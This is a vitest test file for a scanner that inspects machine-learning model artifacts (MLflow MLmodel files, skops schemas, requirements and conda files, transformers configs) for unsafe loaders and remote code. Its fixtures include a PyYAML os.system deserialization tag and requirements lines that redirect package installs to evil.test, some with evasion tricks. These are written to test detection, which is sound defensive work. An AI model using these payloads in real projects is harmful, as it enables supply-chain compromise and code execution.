import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { zipByHand } from '../../../testing/zip-by-hand.ts';
import { scanModel } from '../scan.ts';

let folder = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'loaders-'));
});
afterAll(() => rm(folder, { recursive: true }));

/** What is found in a file of this name. */
async function found(path: string, content: string | Uint8Array) {
  const location = join(folder, 'file');
  await writeFile(location, content);
  const files = [{ path, location, size: content.length }];
  const signal = new AbortController().signal;
  return (await scanModel(files, { signal, temporaryFolder: folder, now: new Date() })).findings;
}
const whats = async (path: string, content: string | Uint8Array) =>
  (await found(path, content)).map(({ rule, what }) => `${rule}: ${what}`);

const mlmodel = (flavors: object) => JSON.stringify({ flavors, mlflow_version: '3.17.2' });

describe('descriptions of MLflow', () => {
  const env = { conda: 'conda.yaml', virtualenv: 'python_env.yaml' };
  test.each([
    [
      'scikit-learn',
      {
        python_function: {
          env,
          loader_module: 'mlflow.sklearn',
          model_path: 'model.pkl',
          predict_fn: 'predict',
        },
        sklearn: { code: null, pickled_model: 'model.pkl', serialization_format: 'cloudpickle' },
      },
    ],
    [
      'skops with types that are known',
      { sklearn: { pickled_model: 'model.skops', skops_trusted_types: ['xgboost.sklearn.XGBClassifier'] } },
    ],
    [
      'XGBoost',
      {
        python_function: { data: 'model.ubj', env, loader_module: 'mlflow.xgboost' },
        xgboost: { code: null, data: 'model.ubj', model_class: 'xgboost.sklearn.XGBClassifier' },
      },
    ],
    [
      'LightGBM',
      {
        python_function: { data: 'model.lgb', env, loader_module: 'mlflow.lightgbm' },
        lightgbm: { code: null, data: 'model.lgb', model_class: 'lightgbm.basic.Booster' },
      },
    ],
    [
      'a model of Python with artifacts from elsewhere',
      {
        python_function: {
          artifacts: { weights: { path: 'artifacts/weights.npz', uri: 's3://bucket/weights.npz' } },
          loader_module: 'mlflow.pyfunc.model',
          python_model: 'python_model.pkl',
        },
      },
    ],
  ])('pass for %s', async (_what, flavors) => {
    expect(await whats('model/MLmodel', mlmodel(flavors))).toEqual([]);
  });

  test('are found in archives too, and whatever their letters', async () => {
    const bytes = Buffer.from('flavors: {python_function: {loader_module: evil}}\n');
    const [one] = await found('model.zip', zipByHand([{ name: 'm/mlmodel', bytes, method: 8 }]));
    expect(one).toMatchObject({ rule: 'named-code', members: ['m/mlmodel'] });
    expect(one!.what).toBe('`evil._load_pyfunc` is imported and called.');
  });

  test.each(['\r', '\r\n', '\x85', '\u2028', '\u2029'])('end their lines as PyYAML does: %j', async (end) => {
    const text = `flavors:${end}  python_function: # one${end}    loader_module: evil${end}`;
    expect(await whats('MLmodel', text)).toEqual(['named-code: `evil._load_pyfunc` is imported and called.']);
  });

  test('are told once where they say it twice', async () => {
    const flavors = { python_function: { code: 'code' }, sklearn: { code: 'code' } };
    expect(await found('MLmodel', mlmodel(flavors))).toHaveLength(1);
  });

  test.each([
    ['a list', '- 1\n'],
    ['nothing', '\n'],
    ['no flavors', 'run_id: x\n'],
  ])('say nothing where they are %s', async (_what, text) => {
    expect(await found('MLmodel', text)).toEqual([]);
  });

  test('are refused with tags of Python', async () => {
    const told = await found('MLmodel', 'flavors: !!python/object/apply:os.system [echo]\n');
    expect(told.map(({ rule }) => rule)).toEqual(['named-code']);
  });

  test.each([
    ['aliases without end', `a: &a [x]\n${'b: &b [*a, *a]\n'.repeat(2)}`],
    ['a text that is cut off', 'flavors: {'],
  ])('are looked through, or refused, with %s', async (_what, text) => {
    for (const { rule } of await found('MLmodel', text)) expect(rule).toBe('unreadable');
  });

  test('of more than a megabyte are refused', async () => {
    expect(await found('MLmodel', `a: ${'x'.repeat(1_100_000)}`)).toMatchObject([
      { rule: 'cannot-look-into' },
    ]);
  });

  test.each([
    ['mlflow.pytorch.pickle_module', []],
    ['tf_keras\n', []],
    ['dill', ['named-code: `dill.load` is imported, to load the model.']],
  ])('the module %j', async (text, expected) => {
    expect(await whats('data/pickle_module_info.txt', text)).toEqual(expected);
  });
});

describe('settings', () => {
  test.each([
    ['model-settings.json', { name: 'm', implementation: 'mlserver_sklearn.SKLearnModel' }],
    ['model-settings.json', { implementation: 'mlserver.codecs.X', parameters: { uri: './model.joblib' } }],
    ['modules.json', [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]],
    ['2_Dense/config.json', { activation_function: 'torch.nn.modules.activation.Tanh' }],
    ['config.json', { activation_function: 'gelu_new', model_type: 'gpt2' }],
    ['config.json', [1, 'a.b.c', null, true]],
    [
      'adapter_config.json',
      { auto_mapping: { parent_library: 'transformers.models.bert' }, peft_type: 'LORA' },
    ],
    ['elsewhere.json', { implementation: 'team.Runtime' }],
  ])('pass as their libraries write them: %s', async (name, content) => {
    expect(await whats(name, JSON.stringify(content))).toEqual([]);
  });

  test('of what skops knows, of what it does not, and of what runs commands', async () => {
    const node = (module: string, name: string) => ({
      __module__: module,
      __class__: name,
      __loader__: 'ObjectNode',
    });
    const schema = {
      ...node('sklearn.pipeline', 'Pipeline'),
      content: [node('team.steps', 'Encoder'), node('os', 'system'), node('numpy', 'anything')],
    };
    expect(await whats('schema.json', JSON.stringify(schema))).toEqual([
      'named-code: `os.system` is loaded, which runs commands of the machine.',
      'skops-type: `team.steps.Encoder` is loaded, which is not among what the scan knows to be harmless.',
    ]);
  });
});

describe('requirements', () => {
  test.each([
    [
      'requirements.txt',
      'mlflow==3.17.2\nscikit-learn==1.9.1 ; python_version >= "3.11"\n# git+https://a/b\n',
    ],
    ['requirements.txt', '--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.9.0\n'],
    [
      'conda.yaml',
      'channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24\n- pip:\n  - mlflow==3.17.2\nname: e\n',
    ],
    [
      'python_env.yaml',
      'python: 3.11.7\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n',
    ],
  ])('pass as MLflow writes them: %s', async (name, text) => {
    expect(await whats(name, text)).toEqual([]);
  });

  test.each([
    ['requirements.txt', '--index-url http://evil.test/simple'],
    ['requirements-gpu.txt', '-fhttp://evil.test'],
    ['requirements.txt', '--index-url=http://evil.test/simple'],
    ['requirements.txt', 'evil @ git+https://evil.test/evil'],
    ['requirements.txt', 'evil[all]@https://evil.test/evil.whl'],
    ['requirements.txt', '--extra-ind http://evil.test'],
    ['requirements.txt', '-r https://evil.test/requirements.txt'],
    ['requirements.txt', '-e ./code'],
    ['requirements.txt', './code/evil'],
    ['conda.yaml', 'dependencies:\n- pip:\n  - "git+https://evil.test/evil"\n'],
    ['conda.yaml', 'channels:\n- https://evil.test/channel\n'],
    ['requirements.txt', '--index-\\\nurl http://evil.test'],
    ['requirements.txt', '# a comment \\\n-i http://evil.test'],
    ['requirements.txt', 'numpy\\\n# a comment\n-i http://evil.test'],
    ['requirements.txt', '-\\\\\ni http://evil.test'],
    ...['\r', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'].map((end) => [
      'requirements.txt',
      `numpy # as saved${end}-i http://evil.test`,
    ]),
    ['conda.yaml', 'dependencies:\n- pip: # as saved\u2028  - git+https://evil.test/evil\n'],
    ['requirements.txt', '-i http://evil.test/?https://pypi.org/simple'],
    ['requirements.txt', '-i https://pypi.org/simple.evil.test'],
    ['requirements.txt', '-i https://pypi.org/simple@evil.test'],
  ])('warn of %s with %j', async (name, text) => {
    expect(await found(name, text)).toMatchObject([{ rule: 'package-source', level: 'warning' }]);
  });
});

describe('what takes code from elsewhere', () => {
  const transformers = (flavor: object) => mlmodel({ transformers: flavor });
  test.each([
    ['MLmodel', transformers({ pipeline_model_type: 'BertModel', source_model_name: 'bert-base' })],
    ['MLmodel', transformers({ pipeline_model_type: 'GPT2LMHeadModel', source_model_name: 'gpt2' })],
    ['MLmodel', transformers({ pipeline_model_type: 'TFAutoModel', source_model_name: 'bert-base' })],
    [
      'model_index.json',
      '{"_class_name": "P", "vae": ["diffusers", "AutoencoderKL"], "image": [null, null]}',
    ],
    ['MAR-INF/MANIFEST.json', '{"model": {"handler": "text_classifier", "serializedFile": "m.pt"}}'],
    ['metadata/part-00000', '{"class": "org.apache.spark.ml.PipelineModel", "sparkVersion": "3.5"}'],
    ['chat_template.jinja', '{% for message in messages %}{{ message.content }}{% endfor %}'],
    [
      'config.json',
      '{"_attn_implementation": "sdpa", "attn_implementation": "kernels-community/flash-attn"}',
    ],
    ['data', '{":serialized:": "gAJ9cQAu", "state": "gAJ9cQAugAJ9cQAugAJ9cQAugAJ9cQAu"}'],
  ])('passes %s: %s', async (path, text) => {
    expect(await whats(path, text)).toEqual([]);
  });

  test.each([
    [
      'MLmodel',
      transformers({ pipeline_model_type: 'OwnForCausalLM', source_model_name: 'a/b' }),
      'named-code',
    ],
    ['MLmodel', transformers({ model_local_base: '/anywhere' }), 'external-data'],
    ['model_index.json', '{"_class_name": ["own", "OwnPipeline"]}', 'remote-code'],
    ['MAR-INF/MANIFEST.json', '{"model": {"handler": "h:handle"}}', 'named-code'],
    ['MAR-INF/MANIFEST.json', '{"model": {"modelFile": "model.py"}}', 'named-code'],
    ['chat_template.jinja', 'a'.repeat(1 << 20), 'template-code'],
    ['config.json', '{"attn_implementation": "paged|someone/kernel"}', 'remote-code'],
    ['config.json', '{"custom_pipelines": {"pair": {"impl": "pair.Pair"}}}', 'remote-code'],
  ])('refuses %s: %.60s', async (path, text, rule) => {
    expect(new Set((await found(path, text)).map((one) => one.rule))).toEqual(new Set([rule]));
  });

  test('MLflow trusts the code beside a model', async () => {
    const texts = {
      MLmodel: mlmodel({ python_function: { loader_module: 'mlflow.sentence_transformers' } }),
      'model.sentence_transformer/config.json': '{"auto_map": {"AutoModel": "own.Own"}}',
    };
    const files = await Promise.all(
      Object.entries(texts).map(async ([path, text], index) => {
        const location = join(folder, `file-${index}`);
        await writeFile(location, text);
        return { path, location, size: text.length };
      }),
    );
    const signal = new AbortController().signal;
    const { findings } = await scanModel(files, { signal, temporaryFolder: folder, now: new Date() });
    expect(findings.map(({ rule }) => rule)).toEqual(['named-code']);
  });
});
